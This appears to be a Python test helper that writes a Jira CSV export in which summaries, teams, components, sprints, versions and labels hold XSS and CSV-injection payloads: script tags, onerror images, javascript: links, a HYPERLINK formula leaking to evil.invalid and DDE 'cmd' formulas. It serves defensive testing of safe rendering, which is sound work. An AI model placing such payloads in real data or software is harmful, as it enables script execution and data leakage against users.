"""A small Jira CSV export whose text fields are attacks: markup, scripts, remote images,
javascript: links and spreadsheet formulas in summaries, teams, components, epics, sprints,
versions and labels. Written to a temporary folder by the tests; never committed."""
from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path

# Each payload, if it were rendered as markup, would set window.__pwned or fetch from
# evil.invalid (a name that never resolves); shown as text, it does neither.
SCRIPT = '<script>window.__pwned="script"</script>'
IMG = '<img src=x onerror="window.__pwned=\'img\'">'
JS_LINK_MD = '[click me](javascript:window.__pwned="md-link")'
JS_LINK_HTML = '<a href="javascript:window.__pwned=\'a\'">open</a>'
MD_IMAGE = "![x](http://evil.invalid/x.png)"
FORMULA = '=HYPERLINK("http://evil.invalid/?leak","open")'

TEAMS = (f"Team {IMG}", MD_IMAGE, FORMULA, f"Ops {JS_LINK_MD}")
COMPONENTS = (f"api {SCRIPT}", f"web {MD_IMAGE}", f"db {JS_LINK_HTML}", "+cmd|' /C calc'!A0")
SPRINTS = (f"Sprint {IMG}", f"Sprint 2 {MD_IMAGE}")
VERSIONS = (f"v1 {MD_IMAGE}", "@SUM(1+1)*cmd|' /C calc'!A0")
SUMMARIES = (SCRIPT, IMG, JS_LINK_MD, JS_LINK_HTML, MD_IMAGE, FORMULA, "-2+3+cmd|' /C calc'!A0",
             "Plain summary <b>bold?</b> & more")
EPIC_SUMMARY = f"Epic {JS_LINK_HTML} {MD_IMAGE}"

HEADER = ["Summary", "Issue key", "Issue id", "Issue Type", "Status", "Project key", "Created", "Updated",
          "Resolved", "Labels", "Component/s", "Fix Version/s", "Sprint", "Custom field (Story Points)",
          "Custom field (Epic Link)", "Custom field (Team)", "Outward issue link (Blocks)", "Status Category"]
KINDS = (("Story", ""), ("Bug", ""), ("Task", "tech-debt"), ("Story", "enabler"), ("Task", "devops"))


def write_hostile_export(path: Path, today: date, issues: int = 48) -> Path:
    """Write the export to `path`; items created over the last ~6 months up to `today`."""
    def stamp(day: date) -> str:
        return f"{day.isoformat()} 10:00"

    rows = [[EPIC_SUMMARY, "EVIL-1", "1", "Epic", "In Progress", "EVIL", stamp(today - timedelta(days=200)),
             stamp(today), "", "", COMPONENTS[0], VERSIONS[0], "", "", "", TEAMS[0], "", "In Progress"]]
    for number in range(2, issues + 2):
        kind, label = KINDS[number % len(KINDS)]
        created = today - timedelta(days=4 * number)
        done = number % 3 == 0
        status, category = ("Done", "Done") if done else (("In Progress", "In Progress") if number % 3 == 1
                                                          else ("To Do", "To Do"))
        resolved = stamp(created + timedelta(days=2 + number % 5)) if done else ""
        # Open items block the next one of another team: the dependency pages show team names.
        blocks = f"EVIL-{number + 1}" if not done and number + 1 < issues + 2 else ""
        rows.append([
            SUMMARIES[number % len(SUMMARIES)], f"EVIL-{number}", str(number), kind, status, "EVIL",
            stamp(created), stamp(min(today, created + timedelta(days=3))), resolved,
            label or FORMULA if number % 7 == 0 else label, COMPONENTS[number % len(COMPONENTS)],
            VERSIONS[number % len(VERSIONS)], SPRINTS[number % len(SPRINTS)], str(1 + number % 5),
            "EVIL-1", TEAMS[number % len(TEAMS)], blocks, category,
        ])
    rows[-1][7] = stamp(today)          # the export's as-of date is today
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path
